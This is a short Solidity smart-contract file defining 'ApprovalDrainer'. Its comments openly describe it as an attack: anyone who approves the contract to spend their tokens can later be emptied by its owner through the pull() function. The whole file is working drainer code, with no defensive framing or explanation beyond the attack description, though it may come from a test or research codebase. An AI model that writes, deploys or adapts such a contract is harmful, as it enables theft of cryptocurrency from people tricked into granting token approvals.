// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Tokens} from "./base/Tokens.sol";

/// @title A bare spender: whoever approves it can be emptied by its owner at any later time.
/// @dev It has no lure and does nothing when called by a victim, so the approval itself is the attack.
contract ApprovalDrainer {
    address public immutable owner;

    constructor(address owner_) {
        owner = owner_;
    }

    function pull(address token, address from, uint256 amount) external {
        require(msg.sender == owner);
        require(Tokens.pull(token, from, owner, amount), "pull failed");
    }
}
